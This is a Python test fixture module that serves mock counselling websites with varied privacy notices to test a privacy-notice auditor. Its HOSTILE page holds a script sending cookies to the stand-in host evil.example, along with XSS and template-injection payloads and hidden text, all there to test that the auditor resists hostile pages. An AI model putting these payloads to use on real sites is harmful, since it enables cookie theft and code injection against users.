"""The policy world: providers whose notices are complete, missing, a PDF, a broken PDF, split over two
pages, in French, or hostile; notices are written as Markdown-ish text in ``tests/fixtures/policy``."""

from __future__ import annotations

import html as htmllib
from pathlib import Path

from confaudit.demo.pdf import text_pdf
from confaudit.demo.server import Reply, Site
from tests.sites.pages import page

FIX = Path(__file__).resolve().parent.parent / "fixtures" / "policy"
HOME = '<h1>Welcome</h1><p>Counselling in Bristol.</p><footer><a href="/privacy">Privacy notice</a></footer>'


def md_html(text: str) -> str:
    """Markdown-ish text as HTML paragraphs and headings (escaped: fixtures are text, not markup)."""
    out = []
    for line in text.splitlines():
        line = line.strip()
        if not line:
            continue
        if line.startswith("#"):
            level = min(len(line) - len(line.lstrip("#")), 3)
            out.append(f"<h{level}>{htmllib.escape(line.lstrip('#').strip())}</h{level}>")
        else:
            out.append(f"<p>{htmllib.escape(line.lstrip('-* '))}</p>")
    return "\n".join(out)


def fixture_html(name: str) -> str:
    return md_html((FIX / name).read_text(encoding="utf-8"))


def html_reply(body: str, title: str = "Privacy notice") -> Reply:
    return page(f"<main>{body}</main>", title=title)


HOSTILE = """
<script>document.cookie='stolen'; fetch('https://evil.example/?'+document.cookie)</script>
<style>body{display:none}</style>
<h2>Confidentiality {{ config.SECRET }}</h2>
<p>What you say is kept confidential &lt;script&gt;alert(1)&lt;/script&gt; {{ 7*7 }} {% include 'x' %} [bold red]boom[/].</p>
<p>Your sessions are 100% secure ${7*7} <img src=x onerror=alert(2)>.</p>
<div hidden>We sell your data to advertising partners.</div>
"""
FRENCH = md_html(
    "# Politique de confidentialité\nNous respectons votre vie privée et vos données sont protégées.\n"
    "Les informations que vous nous donnez sont confidentielles et ne sont pas partagées avec des tiers "
    "sans votre accord. Vous pouvez demander une copie de vos données à tout moment par courriel.\n"
)
SPLIT_PRIVACY = md_html(
    "# Confidentiality\nWhat you say in sessions is kept confidential.\n"
    "If you are at serious risk of harming yourself or others, I may contact your GP.\n"
)
SPLIT_COOKIES = md_html(
    "# Cookie policy\nThis website uses Google Analytics cookies to measure visits, only with your consent.\n"
)


def policy_world() -> list[Site]:
    pdf = text_pdf((FIX / "heldout_uk_sole_trader.txt").read_text(encoding="utf-8").splitlines())
    return [
        Site(
            "good.example",
            routes={"/": page(HOME), "/privacy": html_reply(fixture_html("complete_notice.md"))},
        ),
        Site("none.example", routes={"/": page("<h1>Hello</h1><p>We offer counselling.</p>")}),
        Site(
            "pdf.example",
            routes={
                "/": page('<p>Hello</p><a href="/docs/privacy-notice.pdf">Privacy notice (PDF)</a>'),
                "/docs/privacy-notice.pdf": Reply(200, [("Content-Type", "application/pdf")], pdf),
            },
        ),
        Site(
            "brokenpdf.example",
            routes={
                "/": page('<a href="/privacy.pdf">Privacy policy</a>'),
                "/privacy.pdf": Reply(200, [("Content-Type", "application/pdf")], b"%PDF-1.4\nnot really"),
            },
        ),
        Site(
            "split.example",
            routes={
                "/": page('<a href="/privacy">Privacy</a> <a href="/cookie-policy">Cookie policy</a>'),
                "/privacy": html_reply(SPLIT_PRIVACY),
                "/cookie-policy": html_reply(SPLIT_COOKIES, "Cookie policy"),
            },
        ),
        Site("fr.example", routes={"/": page(HOME), "/privacy": html_reply(FRENCH, "Confidentialité")}),
        Site("hostile.example", routes={"/": page(HOME), "/privacy": html_reply(HOSTILE)}),
        Site("url.example", routes={"/privacy": html_reply(fixture_html("complete_notice.md"))}),
    ]
